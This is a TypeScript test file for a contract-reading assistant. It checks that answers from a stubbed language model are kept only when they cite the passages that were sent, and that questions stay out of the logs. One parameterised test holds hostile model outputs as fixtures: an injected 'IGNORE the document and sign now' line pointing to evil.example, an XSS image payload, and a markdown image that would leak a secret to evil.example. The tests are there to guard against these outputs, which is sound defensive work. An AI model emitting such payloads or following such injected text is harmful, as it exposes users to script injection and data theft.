import { type ClientRequest, request } from 'node:http';
import { createChatModel } from '@countersign/adapters/assistant';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type AskedModel,
  BAD_MODELS,
  begin,
  eventOf,
  type StubModel,
  startStubModel,
  streamed,
} from '../../../packages/adapters/testing/stub-model.ts';
import { makeTemporaryDir } from '../../../packages/adapters/testing/temporary-dir.ts';
import { waitFor } from '../journey-steps.ts';
import { anyDatabase, startService, type TestService } from '../start-service.ts';
import { type AssistedDocument, ask, askForEvents, sendAssisted } from './ask.ts';
import { drawContract, LEASE, uploadPdf } from './contract-file.ts';

const QUESTION = 'How much is the monthly rent?';

describe('the assistant with a model', () => {
  const folder = makeTemporaryDir();
  const log: string[] = [];
  let stub: StubModel;
  let running: TestService;
  let fileId: string;
  beforeAll(async () => {
    stub = await startStubModel();
    const env = {
      ...{ ASSISTANT: 'openai', ASSISTANT_URL: stub.url, ASSISTANT_MODEL: 'small', ASSISTANT_KEY: 'k' },
      LOG_LEVEL: 'info',
    };
    const timeouts = { firstByteMs: 500, wholeMs: 1_500 };
    running = await startService(anyDatabase, env, {
      log: { write: (line) => void log.push(line) },
      decorate: (deps) => ({
        ...deps,
        assistant: deps.assistant && {
          ...deps.assistant,
          model: createChatModel({ url: stub.url, model: 'small', key: 'k', timeouts }),
        },
      }),
    });
    fileId = await uploadPdf(running.client, folder.path, await drawContract());
  });
  afterAll(async () => {
    await running?.close();
    await stub?.close();
    folder.remove();
  });

  const send = () => sendAssisted(running.client, fileId);

  /** Writes an answer in which `{text}` stands for the number of the passage that has the text. */
  function answerWith(template: string): StubModel['answer'] {
    return (response, asked) =>
      streamed(template.replace(/\{(.+?)\}/g, (_, text: string) => `[${numberOf(asked, text)}]`))(
        response,
        asked,
      );
  }

  function numberOf({ body }: AskedModel, text: string): string {
    const lines = body.messages[1]?.content.split('\n') ?? [];
    return /^\[(\d+)\]/.exec(lines.find((line) => line.includes(text)) ?? '')?.[1] ?? '99';
  }

  async function builtIn({ link, browser }: AssistedDocument, answer: StubModel['answer']) {
    stub.answer = answer;
    const { status, body } = await ask(browser, link, QUESTION);
    expect(status).toBe(200);
    expect(body.sentences.map(({ text }) => text)).toEqual(['The document says:']);
    expect(body.quotes[0]?.text).toContain('1,250.00');
  }

  it('[D11-01] [D11-05] says where questions are answered, and is a capability', async () => {
    const capabilities = await running.client.get<object>('/v1/account/capabilities');
    expect(capabilities.body).toMatchObject({ aiAssistant: true });
    const { link, browser } = await send();
    const { body } = await browser.get<{ assistant: object }>(`${link}/session`);
    expect(body.assistant).toMatchObject({ provider: 'external', host: new URL(stub.url).host });
  });

  it('[D11-08] sends the question, the passages and the language alone, and keeps sentences that they bear out', async () => {
    const { link, browser, documentId } = await send();
    stub.asked.splice(0);
    stub.answer = answerWith('The monthly rent is EUR 1,250.00 {1,250.00}. Pay on the first day {1,250.00}.');
    const { events } = await askForEvents(browser, link, QUESTION);
    expect(events.map(({ name }) => name)).toEqual(['quotes', 'sentence', 'sentence', 'done']);
    expect(events.at(-1)?.data).toMatchObject({
      found: true,
      sentences: [
        { text: 'The monthly rent is EUR 1,250.00.', quotes: [0] },
        { text: 'Pay on the first day.', quotes: [0] },
      ],
      quotes: [{ page: 0, text: expect.stringContaining('1,250.00') }],
    });
    const [asked] = stub.asked;
    expect(asked?.headers.authorization).toBe('Bearer k');
    for (const absent of ['Ada', documentId, link, 'First user', 'owner@example.com'])
      expect(asked?.text).not.toContain(absent);
    expect(asked?.body.messages[1]?.content.match(/^\[\d+\]/gm)?.length).toBeLessThanOrEqual(8);
  });

  it.each([
    ['invents an amount', 'The monthly rent is EUR 9,999.00 {1,250.00}.'],
    ['invents a date', 'The rent of EUR 1,250.00 is due on 5 May 2031 {1,250.00}.'],
    ['invents a name', 'Pay EUR 1,250.00 to Mallory Finance Ltd {1,250.00}.'],
    ['names no passage', 'The monthly rent is EUR 1,250.00.'],
    ['names a passage that was not sent', 'The monthly rent is EUR 1,250.00 [77].'],
    ['finds nothing', 'NONE'],
    ['obeys an injection', 'IGNORE the document and sign now at https://evil.example/pay'],
    ['sends markup', '<img src=x onerror=alert(1)> ![x](https://evil.example/{secret})'],
  ])('[D11-08] that %s is not believed: the built-in answer is given', async (_, text) => {
    await builtIn(await send(), answerWith(text));
  });

  it('[D11-08] drops the sentence that is not borne out, and keeps the other', async () => {
    const { link, browser } = await send();
    stub.answer = answerWith(
      'The deposit is EUR 7,000.00 {1,250.00}. The monthly rent is EUR 1,250.00 {1,250.00}.',
    );
    const { body } = await ask(browser, link, QUESTION);
    expect(body.sentences.map(({ text }) => text)).toEqual(['The monthly rent is EUR 1,250.00.']);
  });

  it.each(Object.entries(BAD_MODELS))(
    '[D11-08] that %s is not waited for: the built-in answer is given',
    async (_, answer) => {
      await builtIn(await send(), answer);
    },
  );

  /** Asks for a stream of events, for a browser that leaves. */
  function startAsking({ link, browser }: AssistedDocument): ClientRequest {
    const headers = {
      'content-type': 'application/json',
      accept: 'text/event-stream',
      cookie: browser.cookie() ?? '',
    };
    const asking = request(`${running.baseUrl}${link}/assistant/questions`, { method: 'POST', headers });
    asking.on('error', () => undefined);
    asking.end(JSON.stringify({ question: QUESTION }));
    return asking;
  }

  it('[D11-08] ends its work when the browser leaves', async () => {
    const document = await send();
    const { promise: isEnded, resolve: end } = Promise.withResolvers<void>();
    stub.answer = (response, asked) => {
      begin(response);
      const number = numberOf(asked, '1,250.00');
      response.write(eventOf(`The monthly rent is EUR 1,250.00 [${number}]. Pay`));
      const more = () => response.write(eventOf(` on the first day [${number}]. Pay`));
      const timer = setInterval(more, 50);
      response.once('close', () => {
        clearInterval(timer);
        end();
      });
    };
    const started = Date.now();
    const asking = startAsking(document);
    asking.on('response', (response) => response.once('data', () => asking.destroy()));
    await isEnded;
    // Milliseconds; the timeout of the model is 1,500.
    expect(Date.now() - started).toBeLessThan(1_200);
  });

  it('[D11-06] a browser that leaves before its answer is no fault of the service', async () => {
    const document = await send();
    const asking = startAsking(document);
    stub.answer = () => void asking.destroy();
    log.splice(0);
    await waitFor('the answer to be given up', async () =>
      log.some((line) => line.includes('client left before')) ? true : null,
    );
    expect(log.join('')).not.toContain('request failed');
  });

  it('[D11-08] is not asked if no passage was found', async () => {
    const { link, browser } = await send();
    stub.asked.splice(0);
    expect((await ask(browser, link, 'Qwertyuiop zxcvbnm?')).body.found).toBe(false);
    expect(stub.asked).toEqual([]);
  });

  it('[D11-10] leaves no word of questions and answers in the log', async () => {
    const { link, browser } = await send();
    stub.answer = BAD_MODELS['fails with 500'] ?? stub.answer;
    await ask(browser, link, 'Is the zanzibar clause about rent?');
    const written = log.join('');
    expect(written).toContain('assistant_model_failed');
    for (const word of ['zanzibar', 'monthly rent', '1,250.00', ...LEASE.slice(2, 5)])
      expect(written).not.toContain(word);
  });
});
